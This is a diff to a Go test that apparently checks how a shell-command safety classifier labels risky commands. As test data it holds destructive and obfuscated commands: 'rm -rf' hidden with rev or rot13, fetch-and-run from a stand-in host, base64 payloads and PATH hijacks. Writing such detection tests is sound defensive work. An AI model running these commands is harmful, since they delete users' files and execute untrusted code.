@@ -25,6 +25,9 @@ func TestScriptsAndDeferredExecution(t *testing.T) {
 		{"python3 <(echo 'import shutil; shutil.rmtree(\"/home/dev/src\")')", D},
 		{"source <(wget -qO- https://x.example/setup)", D},
 		{"source <(echo \"$PAYLOAD\" | base64 -d)", Q},
+		{"rev <<< 'crs/~ fr- mr' | bash", D},
+		{"echo 'ez -es ~/fep' | tr 'a-z' 'n-za-m' | sh", Q},
+		{"printf 'ls\n' | sh", A},
 		// PATH and hash set up in the line
 		{"mkdir -p .b && printf 'rm -rf ~/src\\n' > .b/git && chmod +x .b/git && PATH=$PWD/.b:$PATH git status", D},
 		{"echo 'rm -rf ~/src' > /tmp/w/ls; chmod +x /tmp/w/ls; export PATH=/tmp/w:$PATH; ls", D},
